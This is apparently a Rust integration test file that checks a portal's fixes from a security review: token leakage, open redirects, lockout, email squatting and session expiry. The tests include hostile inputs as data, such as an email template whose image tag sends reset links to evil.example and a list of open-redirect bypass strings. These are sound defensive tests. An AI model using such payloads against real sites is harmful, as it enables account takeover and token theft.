//! Attack tests for the takeover, abuse and session paths of the security review (issue 12): each
//! breaks in the way the review found, and shows the door now stays shut.

use crate::smtp::{SmtpServer, invite_link};
use crate::support::*;
use app::domain::outbox::OutboxMessage;
use app::error::AppError;
use reqwest::StatusCode;
use std::time::Duration;

const PASSWORD: &str = "a security test's long password";

/// Signs a new client in as a fresh provider admin.
async fn provider_admin(app: &TestApp) -> reqwest::Client {
    app.add_provider_admin(PASSWORD).await;
    app.signed_in_client("provider@example.com", PASSWORD).await
}

async fn outbox_of(app: &TestApp, client: &reqwest::Client) -> Vec<OutboxMessage> {
    let response = app.call_with(client, "outbox", &[]).await;
    assert_eq!(response.status(), StatusCode::OK);
    response.json().await.expect("outbox")
}

/// The secret of the newest link mailed to `to`, as the database keeps it (tests only).
async fn stored_secret(app: &TestApp, kind: &str, to: &str) -> String {
    for _ in 0..100 {
        let found = sqlx::query(
            "select link_secret from email_outbox where kind = $1 and to_address = $2 \
             and link_secret is not null order by created_at desc limit 1",
        )
        .bind(kind)
        .bind(to)
        .fetch_optional(app.state.store.pool())
        .await
        .expect("query");
        if let Some(row) = found {
            use sqlx::Row as _;
            return row.try_get("link_secret").expect("secret");
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("no {kind} link to {to}");
}

/// How many stored bodies (subject, text, HTML) contain `needle`.
async fn bodies_containing(app: &TestApp, needle: &str) -> i64 {
    use sqlx::Row as _;
    sqlx::query(
        "select count(*) as n from email_outbox where subject like $1 or text_body like $1 or html_body like $1",
    )
    .bind(format!("%{needle}%"))
    .fetch_one(app.state.store.pool())
    .await
    .expect("count")
    .try_get::<i64, _>("n")
    .expect("n")
}

// Item 1: the outbox hands out live links.

#[tokio::test]
async fn a_provider_admin_cannot_read_a_super_admins_reset_link_in_the_outbox() {
    let app = spawn_as_admin().await;
    let provider = provider_admin(&app).await;
    // The provider admin asks for the super admin's password reset, as anyone may.
    let asked = app
        .call_with(&provider, "forgot_password", &[("email", ADMIN_EMAIL)])
        .await;
    assert!(asked.status().is_success() || asked.status().is_redirection());
    let secret = stored_secret(&app, "password_reset", ADMIN_EMAIL).await;
    // Only the secret's SHA-256 is in the token table, and no stored body holds the link.
    assert_eq!(bodies_containing(&app, &secret).await, 0);
    let seen = app
        .call_with(&provider, "outbox", &[])
        .await
        .text()
        .await
        .expect("body");
    assert!(!seen.contains(&secret), "the provider admin read the link");
    assert!(
        !seen.contains(ADMIN_EMAIL),
        "a provider admin sees no other admin's mail"
    );
    // The super admin sees their own link (it is theirs), so the view still works for them.
    let own = outbox_of(&app, &app.client).await;
    assert!(
        own.iter()
            .any(|m| m.to_address == ADMIN_EMAIL && m.text_body.contains(&secret))
    );
    // A retry of the hidden message is refused as if it did not exist.
    use sqlx::Row as _;
    let id: String = sqlx::query("select id from email_outbox where to_address = $1")
        .bind(ADMIN_EMAIL)
        .fetch_one(app.state.store.pool())
        .await
        .expect("row")
        .try_get("id")
        .expect("id");
    let retry = app
        .call_with(&provider, "retry_email", &[("id", &id)])
        .await;
    assert_eq!(retry.status(), StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn without_smtp_a_consumers_invitation_link_shows_while_it_is_live_and_not_after() {
    let app = spawn_as_admin().await;
    let provider = provider_admin(&app).await;
    let id = app.create_user_ok(&[]).await;
    assert_eq!(
        app.call_with(&provider, "send_invite", &[("id", &id)])
            .await
            .status(),
        StatusCode::OK
    );
    let secret = stored_secret(&app, "invitation", "ada@example.com").await;
    let shown = outbox_of(&app, &provider).await;
    let link = invite_link(&shown[0].text_body);
    assert!(
        link.ends_with(&secret),
        "the provider admin sees the consumer's link"
    );
    // Revoked: the link is dead, and the view no longer shows it.
    assert_eq!(
        app.call_with(&provider, "revoke_invite", &[("id", &id)])
            .await
            .status(),
        StatusCode::OK
    );
    for viewer in [&provider, &app.client] {
        let shown = outbox_of(&app, viewer).await;
        assert!(!shown[0].text_body.contains(&secret));
        assert!(shown[0].text_body.contains(app::backend::db::LINK_HIDDEN));
    }
}

#[tokio::test]
async fn a_delivered_email_keeps_no_usable_link_and_is_pruned_after_the_retention_period() {
    let smtp = SmtpServer::start().await;
    let app = spawn_with_smtp(smtp.url()).await;
    app.login_admin().await;
    let id = app.create_user_ok(&[]).await;
    assert_eq!(
        app.call("send_invite", &[("id", &id)]).await.status(),
        StatusCode::OK
    );
    let delivered = smtp.wait_for(1).await;
    let link = invite_link(&delivered[0]);
    let token = link.split("token=").nth(1).expect("token").to_owned();
    for _ in 0..100 {
        if app
            .count("select count(*) from email_outbox where status = 'sent'")
            .await
            == 1
        {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(
        app.count(
            "select count(*) from email_outbox where status = 'sent' and link_secret is null"
        )
        .await,
        1
    );
    assert_eq!(bodies_containing(&app, &token).await, 0);
    let view = app.call("outbox", &[]).await.text().await.expect("outbox");
    assert!(!view.contains(&token));
    // The link itself still works for its owner: only the stored copy is gone.
    let page = app.call("invitation", &[("token", &token)]).await;
    assert_eq!(page.status(), StatusCode::OK);

    // Kept 30 days by default, then deleted by the periodic clean-up.
    app.state.clock.advance(Duration::from_secs(29 * 24 * 3600));
    app::backend::auth::prune(&app.state).await.expect("prune");
    assert_eq!(app.count("select count(*) from email_outbox").await, 1);
    app.state.clock.advance(Duration::from_secs(2 * 24 * 3600));
    app::backend::auth::prune(&app.state).await.expect("prune");
    assert_eq!(app.count("select count(*) from email_outbox").await, 0);
}

#[tokio::test]
async fn the_retention_period_and_idle_timeouts_are_settings_only_a_super_admin_changes() {
    let app = spawn_as_admin().await;
    let provider = provider_admin(&app).await;
    let form = [
        ("admin_idle_minutes", "30"),
        ("consumer_idle_days", "2"),
        ("outbox_retention_days", "5"),
    ];
    assert_eq!(
        app.call_with(&provider, "set_security_settings", &form)
            .await
            .status(),
        StatusCode::FORBIDDEN
    );
    let bad = app
        .call(
            "set_security_settings",
            &[
                ("admin_idle_minutes", "0"),
                ("consumer_idle_days", "2"),
                ("outbox_retention_days", "x"),
            ],
        )
        .await;
    assert_eq!(bad.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let err: app::error::AppError = bad.json().await.expect("error");
    assert!(err.field_message("admin_idle_minutes").is_some());
    assert!(err.field_message("outbox_retention_days").is_some());
    assert_eq!(
        app.call("set_security_settings", &form).await.status(),
        StatusCode::OK
    );
    let now: app::domain::security::SecuritySettings = app
        .call_with(&provider, "security_settings", &[])
        .await
        .json()
        .await
        .expect("settings");
    assert_eq!(
        (
            now.admin_idle_minutes,
            now.consumer_idle_days,
            now.outbox_retention_days
        ),
        (30, 2, 5)
    );
}

/// Each instance reuses the settings it read for a second (every signed-in request reads the
/// idle timeouts): a change is seen at once by the instance it was saved through, and by another
/// instance on the same database within that second.
#[tokio::test]
async fn a_setting_saved_through_one_instance_reaches_another_within_a_second() {
    let first = spawn_as_admin().await;
    let second = spawn_on_database(first.database_url.clone()).await;
    assert_eq!(idle_minutes(&second).await, None);
    assert_eq!(idle_minutes(&first).await, None);
    let form = [
        ("admin_idle_minutes", "30"),
        ("consumer_idle_days", "2"),
        ("outbox_retention_days", "5"),
    ];
    assert_eq!(
        first.call("set_security_settings", &form).await.status(),
        StatusCode::OK
    );
    assert_eq!(idle_minutes(&first).await.as_deref(), Some("30"));
    tokio::time::sleep(Duration::from_millis(1_100)).await;
    assert_eq!(idle_minutes(&second).await.as_deref(), Some("30"));
}

/// The stored admin idle timeout as `app`'s store reads it.
async fn idle_minutes(app: &TestApp) -> Option<String> {
    app.state
        .store
        .setting("admin_idle_minutes")
        .await
        .expect("read")
}

// Item 11: two instances must not send one email twice.

#[tokio::test]
async fn two_workers_against_a_slow_smtp_server_deliver_each_of_200_messages_exactly_once() {
    let smtp = SmtpServer::start_slow(Duration::from_millis(120)).await;
    // No SMTP for the app itself: the test runs the two workers.
    let app = spawn_app().await;
    for i in 0..200 {
        let email = app::backend::db::NewEmail {
            kind: "test".into(),
            to_address: format!("reader{i}@example.com"),
            subject: format!("Message {i}"),
            html_body: "<p>hello</p>".into(),
            text_body: "hello".into(),
            related_token_id: None,
            link_secret: None,
        };
        app.state
            .store
            .queue_email(&email, app.state.clock.now())
            .await
            .expect("queue");
    }
    // A lease shorter than a batch takes to send (10 × 120 ms), as when SMTP is slow: without the
    // fence, the second worker takes messages whose lease ran out while the first still sends.
    // Each send may take half the lease (500 ms), several times the relay's delay: with a tighter
    // margin a loaded machine times out sends the relay then accepts, and those are sent again
    // (SMTP cannot tell a client whether a message it gave up on arrived).
    let lease = Duration::from_millis(1000);
    let worker = |n: usize| {
        let state = app.state.clone();
        let url = secrecy::SecretString::from(smtp.url());
        async move {
            let mailer = app::backend::mail::Mailer::new(&url, "Portico <portico@example.com>")
                .expect("mailer");
            let deadline = std::time::Instant::now() + Duration::from_secs(120);
            while std::time::Instant::now() < deadline {
                let attempted =
                    app::backend::mail::deliver_due_with_lease(&state, &mailer, lease).await;
                use sqlx::Row as _;
                let left: i64 =
                    sqlx::query("select count(*) as n from email_outbox where status <> 'sent'")
                        .fetch_one(state.store.pool())
                        .await
                        .expect("count")
                        .try_get("n")
                        .expect("n");
                if left == 0 {
                    return n;
                }
                if attempted == 0 {
                    tokio::time::sleep(Duration::from_millis(20)).await;
                }
            }
            panic!("worker {n} did not finish");
        }
    };
    tokio::join!(worker(1), worker(2));
    let messages = smtp.messages();
    let mut ids: Vec<String> = messages
        .iter()
        .filter_map(|m| {
            m.lines()
                .find(|l| l.to_ascii_lowercase().starts_with("message-id:"))
                .map(|l| l.trim().to_owned())
        })
        .collect();
    let total = ids.len();
    ids.sort();
    ids.dedup();
    assert_eq!((total, ids.len()), (200, 200), "each message exactly once");
}

// Item 2: template edits can leak every future token.

#[tokio::test]
async fn only_a_super_admin_edits_templates_and_no_template_sends_a_link_to_another_server() {
    let app = spawn_as_admin().await;
    let provider = provider_admin(&app).await;
    let evil = [
        ("kind", "password_reset"),
        ("subject", "Reset"),
        ("text_body", "{{ reset_url }}"),
        (
            "html_body",
            "<p><a href=\"{{ reset_url }}\">Reset</a></p><img src=\"https://evil.example/p?{{ reset_url }}\">",
        ),
    ];
    assert_eq!(
        app.call_with(&provider, "save_email_template", &evil)
            .await
            .status(),
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        app.call_with(
            &provider,
            "reset_email_template",
            &[("kind", "password_reset")]
        )
        .await
        .status(),
        StatusCode::FORBIDDEN
    );
    let refused = app.call("save_email_template", &evil).await;
    assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let err: app::error::AppError = refused.json().await.expect("error");
    assert_eq!(
        err.field_message("html_body").as_deref(),
        Some(app::domain::email_template::MISPLACED_VARIABLE)
    );
    assert_eq!(app.count("select count(*) from email_templates").await, 0);
}

// Item 3: change_password needs no current password.

#[tokio::test]
async fn a_session_cannot_set_a_new_password_without_the_current_one() {
    let app = spawn_as_admin().await;
    let changed = app
        .call(
            "change_password",
            &[
                ("new_password", "a hijacker's chosen password"),
                ("confirm_new_password", "a hijacker's chosen password"),
            ],
        )
        .await;
    assert_eq!(changed.status(), StatusCode::FORBIDDEN);
    // The password is what it was, and the session still works.
    app.signed_in_client(ADMIN_EMAIL, ADMIN_PASSWORD).await;
}

// Item 4: open redirect after sign-in.

#[tokio::test]
async fn sign_in_never_redirects_to_another_site() {
    let app = spawn_app().await;
    for next in [
        "/\t/evil.example",
        "//evil.example",
        "/\\evil.example",
        "\\/evil.example",
        "https:evil.example",
        "https://evil.example/",
        "//user@evil.example",
        "/\r\n/evil.example",
    ] {
        let location = app.admin_login_redirect(next).await;
        assert_eq!(location, "/admin", "next={next:?}");
    }
    // Escapes that a browser keeps as they are stay paths on the portal.
    for next in ["/%09/evil.example", "/%2F/evil.example", "/%5Cevil.example"] {
        let location = app.admin_login_redirect(next).await;
        let base = url::Url::parse(&app.base).expect("base");
        let target = base.join(&location).expect("location");
        assert_eq!(
            target.origin(),
            base.origin(),
            "next={next:?} went to {location}"
        );
        assert!(!location.starts_with("//"), "{location}");
    }
    assert_eq!(
        app.admin_login_redirect("/admin/users?status=invited")
            .await,
        "/admin/users?status=invited"
    );
}

// Item 5: revoke invite ignores the audience.

#[tokio::test]
async fn a_provider_admin_cannot_revoke_a_super_admins_invitation() {
    let app = spawn_as_admin().await;
    let added = app
        .call(
            "add_admin",
            &[
                ("form[first_name]", "Second"),
                ("form[last_name]", "Super"),
                ("form[email]", "super2@example.com"),
                ("form[organization_id]", ""),
                ("form[role]", "super-admin"),
                ("form[password]", ""),
            ],
        )
        .await;
    assert_eq!(added.status(), StatusCode::OK);
    let id = app
        .scalar_text("select id from users where email = 'super2@example.com'")
        .await;
    assert_eq!(
        app.call("send_admin_invite", &[("id", &id)]).await.status(),
        StatusCode::OK
    );
    let provider = provider_admin(&app).await;
    let revoke = app
        .call_with(&provider, "revoke_invite", &[("id", &id)])
        .await;
    assert_eq!(revoke.status(), StatusCode::NOT_FOUND);
    assert_eq!(
        app.count(&format!(
            "select count(*) from one_time_tokens where user_id = '{id}' and revoked_at is null"
        ))
        .await,
        1,
        "the invitation is still live"
    );
}

// Item 6: changing a user's email keeps the old address's power.

#[tokio::test]
async fn an_email_change_revokes_links_to_the_old_address_and_ends_sessions() {
    let app = spawn_as_admin().await;
    // A consumer with a password, signed in, with a reset link mailed to the old address.
    let signed_in = app
        .create_user_ok(&[("email", "old@example.com"), ("password", PASSWORD)])
        .await;
    let consumer = app.signed_in_client("old@example.com", PASSWORD).await;
    assert_eq!(
        app.call("send_password_reset", &[("id", &signed_in)])
            .await
            .status(),
        StatusCode::OK
    );
    let reset = stored_secret(&app, "password_reset", "old@example.com").await;
    // A consumer without a password, with an invitation mailed to the old address.
    let invited = app
        .create_user_ok(&[("email", "invited-old@example.com")])
        .await;
    assert_eq!(
        app.call("send_invite", &[("id", &invited)]).await.status(),
        StatusCode::OK
    );
    let invitation = stored_secret(&app, "invitation", "invited-old@example.com").await;

    let edit = |id: &str, email: &str| {
        let (id, email) = (id.to_owned(), email.to_owned());
        let app = &app;
        async move {
            app.call(
                "update_user",
                &[
                    ("id", id.as_str()),
                    ("form[first_name]", "Ada"),
                    ("form[last_name]", "Lovelace"),
                    ("form[email]", email.as_str()),
                    (
                        "form[organization_id]",
                        app::backend::db::DEFAULT_ORGANIZATION_ID,
                    ),
                    ("form[role]", "consumer-team-member"),
                ],
            )
            .await
            .status()
        }
    };
    assert!(edit(&signed_in, "new@example.com").await.is_success());
    assert!(edit(&invited, "invited-new@example.com").await.is_success());

    let me: Option<app::domain::CurrentUser> = app
        .call_with(&consumer, "me", &[])
        .await
        .json()
        .await
        .expect("me");
    assert!(
        me.is_none(),
        "the session signed in with the old email ended"
    );
    let used = app
        .call(
            "reset_password",
            &[
                ("token", reset.as_str()),
                ("new_password", "an attacker's new password"),
                ("confirm_new_password", "an attacker's new password"),
            ],
        )
        .await;
    assert_eq!(
        used.status(),
        StatusCode::CONFLICT,
        "the reset link is dead"
    );
    let accepted = client(&app.base)
        .post(app.url("/api/accept_invitation"))
        .header(reqwest::header::ACCEPT, "application/json")
        .header(reqwest::header::ORIGIN, &app.base)
        .form(&[
            ("token", invitation.as_str()),
            ("password", "an attacker's new password"),
            ("confirm_password", "an attacker's new password"),
        ])
        .send()
        .await
        .expect("accept");
    assert_eq!(
        accepted.status(),
        StatusCode::CONFLICT,
        "the invitation is dead"
    );
    // The owner of the new address signs in with the password as before.
    app.signed_in_client("new@example.com", PASSWORD).await;
}

// Item 7: setup hashes before it checks.

#[tokio::test]
async fn setup_checks_the_link_before_anything_costly_and_is_rate_limited() {
    let app = spawn_without_admin().await;
    // A wrong link is refused before the form is even read (a bad password would be a 422).
    let post = |password: &'static str| {
        let app = &app;
        async move {
            app.call_with(
                &client(&app.base),
                "complete_setup",
                &[
                    ("token", "not the link"),
                    ("email", "boss@example.com"),
                    ("password", password),
                    ("confirm_password", password),
                ],
            )
            .await
            .status()
        }
    };
    assert_eq!(post("short").await, StatusCode::CONFLICT);
    let limit = app::backend::limits::SETUP_ADDRESS.max as usize;
    for _ in 1..limit {
        assert_eq!(post("a long enough passphrase").await, StatusCode::CONFLICT);
    }
    assert_eq!(
        post("a long enough passphrase").await,
        StatusCode::TOO_MANY_REQUESTS
    );
    assert_eq!(app.count("select count(*) from users").await, 0);
}

// Item 8: targeted lockout.

#[tokio::test]
async fn an_attacker_hammering_an_account_does_not_stop_its_owner_signing_in_from_their_browser() {
    let app = spawn_trusting_forwarded_for().await;
    // The owner signed in from this browser before.
    let owner = app.signed_in_client(ADMIN_EMAIL, ADMIN_PASSWORD).await;
    assert_eq!(
        app.call_with(&owner, "logout", &[]).await.status(),
        StatusCode::OK
    );
    let attacker = client(&app.base);
    let guess = |password: &'static str, client: &reqwest::Client, from: &'static str| {
        let (app, client) = (&app, client.clone());
        async move {
            client
                .post(app.url("/api/login"))
                .header(reqwest::header::ACCEPT, "application/json")
                .header("x-forwarded-for", from)
                .form(&[("email", ADMIN_EMAIL), ("password", password)])
                .send()
                .await
                .expect("login")
                .status()
        }
    };
    let mut limited = 0;
    for _ in 0..15 {
        if guess("a wrong guess at it", &attacker, "203.0.113.9").await
            == StatusCode::TOO_MANY_REQUESTS
        {
            limited += 1;
        }
    }
    assert_eq!(limited, 5, "the account lock still stops the attacker");
    // A browser the account never signed in from is locked out with the attacker...
    assert_eq!(
        guess(ADMIN_PASSWORD, &client(&app.base), "198.51.100.4").await,
        StatusCode::TOO_MANY_REQUESTS
    );
    // ...but the owner's own browser gets in.
    assert_eq!(
        guess(ADMIN_PASSWORD, &owner, "198.51.100.4").await,
        StatusCode::OK
    );
}

// Item 9: IPv6 clients rotate addresses inside their /64.

#[tokio::test]
async fn ipv6_addresses_of_one_64_share_one_limit() {
    let app = spawn_trusting_forwarded_for().await;
    let ask = |i: usize, prefix: &'static str| {
        let app = &app;
        async move {
            client(&app.base)
                .post(app.url("/api/forgot_password"))
                .header(reqwest::header::ACCEPT, "application/json")
                .header("x-forwarded-for", format!("{prefix}:{i:x}"))
                .form(&[("email", format!("someone{i}@example.com"))])
                .send()
                .await
                .expect("forgot")
                .status()
        }
    };
    let limit = app::backend::limits::RESET_ADDRESS.max as usize;
    for i in 0..limit {
        assert_ne!(
            ask(i + 1, "2001:db8:0:1:0:0:0").await,
            StatusCode::TOO_MANY_REQUESTS,
            "attempt {i}"
        );
    }
    assert_eq!(
        ask(limit + 1, "2001:db8:0:1:0:0:0").await,
        StatusCode::TOO_MANY_REQUESTS
    );
    assert_ne!(
        ask(1, "2001:db8:0:2:0:0:0").await,
        StatusCode::TOO_MANY_REQUESTS,
        "another /64 is another client"
    );
}

// Item 13: sessions end when idle; the cookie is __Host- on https.

#[tokio::test]
async fn an_admin_session_ends_after_an_hour_without_use_and_lives_on_while_used() {
    let app = spawn_as_admin().await;
    let me = |app: &TestApp| {
        let client = app.client.clone();
        let url = app.url("/api/me");
        async move {
            client
                .post(url)
                .header(reqwest::header::ACCEPT, "application/json")
                .send()
                .await
                .expect("me")
                .json::<Option<app::domain::CurrentUser>>()
                .await
                .expect("json")
        }
    };
    for _ in 0..3 {
        app.state.clock.advance(Duration::from_secs(50 * 60));
        assert!(me(&app).await.is_some(), "used within the hour");
    }
    app.state.clock.advance(Duration::from_secs(61 * 60));
    assert!(me(&app).await.is_none(), "idle for more than an hour");
    // A consumer's session lasts a week of idleness by default.
    let consumer = app.insert_consumer("idle@example.com", PASSWORD).await;
    let client = app.signed_in_client("idle@example.com", PASSWORD).await;
    app.state.clock.advance(Duration::from_secs(2 * 24 * 3600));
    let me: Option<app::domain::CurrentUser> = app
        .call_with(&client, "me", &[])
        .await
        .json()
        .await
        .expect("me");
    assert_eq!(me.map(|m| m.id), Some(consumer));
}

#[tokio::test]
async fn on_https_the_session_cookie_is_host_prefixed_and_hsts_is_sent() {
    let app = spawn_https_app().await;
    let response = app.login(ADMIN_EMAIL, ADMIN_PASSWORD).await;
    let cookie = TestApp::session_cookie(&response).expect("session cookie");
    assert!(cookie.starts_with("__Host-portico_session="), "{cookie}");
    assert!(cookie.contains("; Secure") && cookie.contains("Path=/"));
    assert!(!cookie.contains("Domain"));
    let hsts = response
        .headers()
        .get("strict-transport-security")
        .and_then(|v| v.to_str().ok())
        .map(str::to_owned);
    assert_eq!(hsts.as_deref(), Some("max-age=31536000; includeSubDomains"));
}

// Item 14: private answers are never cached.

#[tokio::test]
async fn admin_account_token_pages_and_server_functions_are_never_cached() {
    let app = spawn_as_admin().await;
    for path in [
        "/admin",
        "/admin/users",
        "/account",
        "/invite?token=x",
        "/reset-password?token=x",
        "/setup?token=x",
    ] {
        let response = app.get(path).await;
        assert_eq!(
            response
                .headers()
                .get("cache-control")
                .and_then(|v| v.to_str().ok()),
            Some("no-store"),
            "{path}"
        );
    }
    let answer = app.call("me", &[]).await;
    assert_eq!(
        answer
            .headers()
            .get("cache-control")
            .and_then(|v| v.to_str().ok()),
        Some("no-store")
    );
    let plain = app.get("/healthz").await;
    assert!(plain.headers().get("strict-transport-security").is_none());
}

// Item 15: common passwords are refused; failed sign-ins are audited, with the address only.

#[tokio::test]
async fn a_common_password_is_refused_plainly_and_failed_sign_ins_are_audited_without_the_password()
{
    let app = spawn_as_admin().await;
    let refused = app
        .create_user(&[
            ("email", "common@example.com"),
            ("password", "1qaz2wsx3edc"),
        ])
        .await;
    assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let error = refused.json::<AppError>().await.expect("AppError");
    assert_eq!(
        error.field_message("password").as_deref(),
        Some(
            "This password is one of the most common passwords, which attackers try first. Choose another."
        )
    );
    assert_eq!(app.users_with_email("common@example.com").await, 0);

    let wrong = "not the admin password at all";
    assert_eq!(
        app.login(ADMIN_EMAIL, wrong).await.status(),
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        app.login("nobody@example.com", wrong).await.status(),
        StatusCode::UNAUTHORIZED
    );
    use sqlx::Row as _;
    let rows = sqlx::query(
        "select subject_type, subject_id, detail from audit_log \
         where action = 'session.login_failed' order by at, id",
    )
    .fetch_all(app.state.store.pool())
    .await
    .expect("audit");
    let entries: Vec<(String, Option<String>, String)> = rows
        .iter()
        .map(|r| {
            (
                r.try_get("subject_type").expect("type"),
                r.try_get("subject_id").expect("id"),
                r.try_get("detail").expect("detail"),
            )
        })
        .collect();
    assert_eq!(entries.len(), 2, "{entries:?}");
    assert_eq!(entries[0].0, "user");
    assert!(entries[0].1.is_some());
    assert_eq!(entries[0].2, "from 127.0.0.1");
    assert_eq!(
        (
            entries[1].0.as_str(),
            entries[1].1.as_deref(),
            entries[1].2.as_str()
        ),
        ("login", None, "unknown email, from 127.0.0.1")
    );
    let everything: i64 = app
        .count(&format!(
            "select count(*) from audit_log where detail like '%{wrong}%' or detail like '%nobody@%'"
        ))
        .await;
    assert_eq!(everything, 0, "no password, no unknown email as typed");
}

// Item 16: an organization name of 91–100 characters broke its default team.

#[tokio::test]
async fn an_organization_name_too_long_for_its_default_team_is_a_field_error() {
    let app = spawn_as_admin().await;
    let long = "o".repeat(95);
    let created = app.call("create_organization", &[("name", &long)]).await;
    assert_eq!(created.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let err: app::error::AppError = created.json().await.expect("error");
    assert!(
        err.field_message("name")
            .is_some_and(|m| m.contains("90 characters"))
    );
    assert_eq!(app.count("select count(*) from organizations").await, 1);
    let fits = "o".repeat(90);
    assert!(
        app.call("create_organization", &[("name", &fits)])
            .await
            .status()
            .is_success()
    );
}

// Item 10: admin mail flood.

#[tokio::test]
async fn a_flood_of_registrations_and_invitation_requests_sends_the_admins_one_email_a_window() {
    let app = spawn_as_admin().await;
    let register = |i: usize| {
        let app = &app;
        async move {
            let email = format!("flood{i}@example.com");
            app.call_with(
                &client(&app.base),
                "register",
                &[
                    ("form[first_name]", "Flo"),
                    ("form[last_name]", "Od"),
                    ("form[email]", email.as_str()),
                    ("form[password]", PASSWORD),
                    ("form[confirm_password]", PASSWORD),
                    ("form[invite_code]", ""),
                ],
            )
            .await
            .status()
        }
    };
    let registrant = client(&app.base);
    for i in 0..12 {
        assert!(!register(i).await.is_client_error(), "registration {i}");
        let confirmed = app
            .confirm_registration(&registrant, &format!("flood{i}@example.com"), PASSWORD)
            .await;
        assert!(!confirmed.status().is_client_error(), "confirmation {i}");
    }
    let to_admins = "select count(*) from email_outbox where kind = 'registration_pending'";
    assert_eq!(
        app.count("select count(*) from users where approval = 'pending'")
            .await,
        12
    );
    assert_eq!(app.count(to_admins).await, 1, "one notice for the window");
    app.state.clock.advance(Duration::from_secs(16 * 60));
    assert!(!register(12).await.is_client_error());
    app.confirm_registration(&registrant, "flood12@example.com", PASSWORD)
        .await;
    assert_eq!(app.count(to_admins).await, 2, "a new window, a new notice");

    // "Request a new invitation" from a dead link: a few a day per link, one notice a window.
    let id = app.create_user_ok(&[("email", "late@example.com")]).await;
    assert_eq!(
        app.call("send_invite", &[("id", &id)]).await.status(),
        StatusCode::OK
    );
    let token = stored_secret(&app, "invitation", "late@example.com").await;
    app.state.clock.advance(Duration::from_secs(8 * 24 * 3600));
    let ask = || {
        let app = &app;
        let token = token.clone();
        async move {
            app.call_with(
                &client(&app.base),
                "request_new_invitation",
                &[("token", token.as_str())],
            )
            .await
            .status()
        }
    };
    let requested = "select count(*) from email_outbox where kind = 'invitation_requested'";
    for _ in 0..10 {
        assert_eq!(ask().await, StatusCode::OK);
    }
    assert_eq!(app.count(requested).await, 1);
    app.state.clock.advance(Duration::from_secs(16 * 60));
    assert_eq!(ask().await, StatusCode::OK, "the same answer");
    assert_eq!(
        app.count(requested).await,
        1,
        "past three requests a day the link asks no more"
    );
}

// Item 12: a self-registered address must be proven.

async fn register_as(app: &TestApp, email: &str, password: &str) -> reqwest::Response {
    app.call_with(
        &client(&app.base),
        "register",
        &[
            ("form[first_name]", "Chief"),
            ("form[last_name]", "Executive"),
            ("form[email]", email),
            ("form[password]", password),
            ("form[confirm_password]", password),
            ("form[invite_code]", ""),
        ],
    )
    .await
}

#[tokio::test]
async fn a_self_registered_address_is_usable_only_once_its_owner_confirms_it() {
    let app = spawn_as_admin().await;
    app.call(
        "set_registration_settings",
        &[("auto_approve", "on"), ("allow_registration", "on")],
    )
    .await;
    let squatter_password = "the squatter's long password";
    let owner_password = "the real chief's long password";
    assert!(
        !register_as(&app, "ceo@partner.example", squatter_password)
            .await
            .status()
            .is_client_error()
    );
    let squatter_link = app.confirmation_secret("ceo@partner.example").await;
    // Approved at once, yet unusable: no sign-in, no reset link.
    let squatter = client(&app.base);
    let login = app
        .login_as(&squatter, "ceo@partner.example", squatter_password)
        .await;
    assert_eq!(login.status(), StatusCode::UNAUTHORIZED);
    app.call_with(
        &squatter,
        "forgot_password",
        &[("email", "ceo@partner.example")],
    )
    .await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(
        app.count("select count(*) from one_time_tokens where purpose = 'password_reset'")
            .await,
        0
    );
    // The real owner registers too, in a look-alike spelling: one account, a new link, and the
    // squatter's link is dead.
    assert!(
        !register_as(&app, "ＣＥＯ@ｐａｒｔｎｅｒ.example", owner_password)
            .await
            .status()
            .is_client_error()
    );
    assert_eq!(
        app.count("select count(*) from users where lower(email) = 'ceo@partner.example'")
            .await,
        1
    );
    let view: app::api::account::ConfirmLinkView = app
        .call_with(&squatter, "confirmation_link", &[("token", &squatter_link)])
        .await
        .json()
        .await
        .expect("view");
    assert!(matches!(
        view,
        app::api::account::ConfirmLinkView::Dead { .. }
    ));
    // The newest link needs the newest password: the squatter's does not confirm it.
    let owner_link = app.confirmation_secret("ceo@partner.example").await;
    let wrong = app
        .call_with(
            &squatter,
            "confirm_email",
            &[
                ("token", owner_link.as_str()),
                ("password", squatter_password),
            ],
        )
        .await;
    assert_eq!(wrong.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let owner = client(&app.base);
    let confirmed = app
        .call_with(
            &owner,
            "confirm_email",
            &[("token", owner_link.as_str()), ("password", owner_password)],
        )
        .await;
    assert_eq!(location(&confirmed), "/account?welcome=1");
    let me: Option<app::domain::CurrentUser> = app
        .call_with(&owner, "me", &[])
        .await
        .json()
        .await
        .expect("me");
    assert_eq!(me.map(|m| m.email).as_deref(), Some("ceo@partner.example"));
    let old = app
        .login_as(&client(&app.base), "ceo@partner.example", squatter_password)
        .await;
    assert_eq!(old.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn ten_concurrent_confirmations_of_one_link_confirm_once() {
    let app = spawn_as_admin().await;
    app.call(
        "set_registration_settings",
        &[("auto_approve", "on"), ("allow_registration", "on")],
    )
    .await;
    register_as(&app, "racer@example.com", PASSWORD).await;
    let token = app.confirmation_secret("racer@example.com").await;
    let attempts = (0..10).map(|_| {
        let app = &app;
        let token = token.clone();
        async move {
            app.call_with(
                &client(&app.base),
                "confirm_email",
                &[("token", token.as_str()), ("password", PASSWORD)],
            )
            .await
            .status()
        }
    });
    let statuses = futures_join_all(attempts).await;
    let through = statuses.iter().filter(|s| !s.is_client_error()).count();
    assert_eq!(through, 1, "{statuses:?}");
    assert_eq!(
        app.count("select count(*) from email_outbox where kind = 'welcome'")
            .await,
        1
    );
}
